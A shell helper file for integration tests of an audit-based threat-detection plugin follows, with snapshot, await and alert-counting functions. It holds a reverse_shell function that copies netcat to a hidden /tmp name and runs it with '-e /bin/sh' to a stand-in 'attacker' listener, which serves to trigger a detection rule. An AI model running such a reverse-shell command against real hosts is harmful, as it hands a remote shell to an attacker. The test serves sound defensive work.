# SPDX-License-Identifier: Apache-2.0
# shellcheck shell=sh
# What the scripts that run in a guest share; stands in front of each of them. What they print is
# shown where a test fails; what they write into /out the test looks at.
export PATH=/usr/local/sbin:/usr/local/bin:$PATH
RULE='Reverse shell of a slow guest'
SYSLOG=/var/log/auth.log

say() {
    printf '%s %s\n' "$(cut -d' ' -f1 /proc/uptime)" "$*"
}
fail() {
    say "FAILED: $*"
    {
        audisp-eql doctor
        systemctl --no-pager status audisp-eql auditd
        journalctl -b --no-pager -n 60 _TRANSPORT=syslog + _TRANSPORT=stdout
        auditctl -s
        auditctl -l
        grep -a audisp-eql "$SYSLOG" | tail -n 20
    } 2>&1 | cut -c1-300
    exit 1
}
# await WHAT SECONDS COMMAND…: until it succeeds.
await() {
    what=$1 end=$(($(date +%s) + $2))
    shift 2
    until "$@" >/dev/null 2>&1; do
        [ "$(date +%s)" -le $end ] || fail "$what: not within the time"
        sleep 0.5
    done
}
must() {
    "$@" >/out/last 2>&1 || fail "$*: $(cat /out/last)"
}
refused() {
    ! "$@" >/out/last 2>&1 || fail "not refused: $*: $(cat /out/last)"
}
says() {
    grep -q -- "$1" /out/last || fail "'$1' is not said, but: $(cat /out/last)"
}

# What an administrator would find changed: each file with its mode and owner, the texts in /etc,
# and the kernel's audit.
snapshot() {
    find / -xdev \( -path /proc -o -path /sys -o -path /dev -o -path /run -o -path /tmp \
        -o -path /var/log -o -path /var/cache -o -path /var/lib/dpkg -o -path /var/lib/systemd \
        -o -path /var/lib/logrotate -o -path /root -o -path /out -o -path /var/tmp -o -path /var/spool \
        -o -path /etc/ld.so.cache -o -path '/etc/*-' \) -prune -o -printf '%M %U:%G %p %l\n' | sort >"/out/$1.files"
    find /etc -xdev -type f ! -name 'ld.so.cache' ! -name '*-' -exec sha256sum {} + | sort -k2 >"/out/$1.texts"
    find /var/log -maxdepth 1 -printf '%M %U:%G %p\n' | grep audisp | sort >"/out/$1.logs"
    audit_state >"/out/$1.audit"
}
audit_state() {
    auditctl -s | grep -E '^(enabled|failure|rate_limit|backlog_limit|backlog_wait_time) '
    auditctl -l
}
same_as() { # BEFORE AFTER PART…
    before=$1 after=$2
    shift 2
    for part in "$@"; do
        diff "/out/$before.$part" "/out/$after.$part" >/out/last 2>&1 ||
            fail "$part differ after that: $(cat /out/last)"
    done
}
own_rules() {
    auditctl -l | grep -q 'audisp-eql'
}
no_own_rules() {
    ! own_rules
}
auditd_pid() {
    pgrep -x auditd
}
plugin_pid() {
    pgrep -P "$(auditd_pid)" -x audisp-eql
}

# A detection rule of which the kernel refuses the audit rule.
refused_rule() {
    mkdir -p /etc/audisp-eql/rules.d
    # The kernel takes no name of more than 255 bytes.
    long=$(printf '%0300d' 0)
    cat >/etc/audisp-eql/rules.d/refused.toml <<TEXT
[rule]
name = "refused"
rule_id = "33333333-3333-4333-8333-333333333334"
language = "eql"
type = "eql"
risk_score = 1
severity = "low"
query = '''file where event.type == "creation" and file.path : "/srv/$long/*"'''
TEXT
}

# The seed rule gives a shell one second, which a guest on a busy machine may take for it.
patient_rule() {
    for rules in /usr/share/audisp-eql/rules /usr/local/share/audisp-eql/rules; do
        [ ! -d $rules ] ||
            sed -e 's/maxspan=1s/maxspan=2m/' -e "s/^name = .*/name = \"$RULE\"/" \
                -e 's/^rule_id = .*/rule_id = "33333333-3333-4333-8333-333333333335"/' \
                $rules/potential_reverse_shell_via_suspicious_binary.toml \
                >/etc/audisp-eql/rules.d/patient.toml
    done
}

# A server in a network namespace of its own, by documentation addresses.
network() {
    ip netns add attacker
    ip link add to-attacker type veth peer name eth0 netns attacker
    ip addr add 198.51.100.1/24 dev to-attacker
    ip link set to-attacker up
    ip -n attacker addr add 198.51.100.2/24 dev eth0
    ip -n attacker link set eth0 up
    ip netns exec attacker perl -MIO::Socket::INET -e '
        my $s = IO::Socket::INET->new(LocalPort => 4444, Listen => 50, ReuseAddr => 1) or die;
        while (my $c = $s->accept) { print $c "exit\n"; close $c }' &
    SERVER=$!
    await "the attacker's server" 300 sh -c 'ip netns exec attacker ss -ltn | grep -q :4444'
}
# reverse_shell: from /tmp, as the seed rule has it.
reverse_shell() {
    cp /bin/nc.traditional /tmp/.x
    /tmp/.x -e /bin/sh 198.51.100.2 4444 </dev/null >/dev/null 2>&1
    :
}
# How many alerts of the rule the guest's syslog has; one that was sent again counts once.
alerts() {
    grep -a "audisp-eql.*\"name\":\"$RULE\"" "$SYSLOG" | grep -o '"event":{[^}]*}' |
        grep -o '"id":"[^"]*"' | sort -u | wc -l
}
has_alerts() {
    [ "$(alerts)" -ge "$1" ]
}
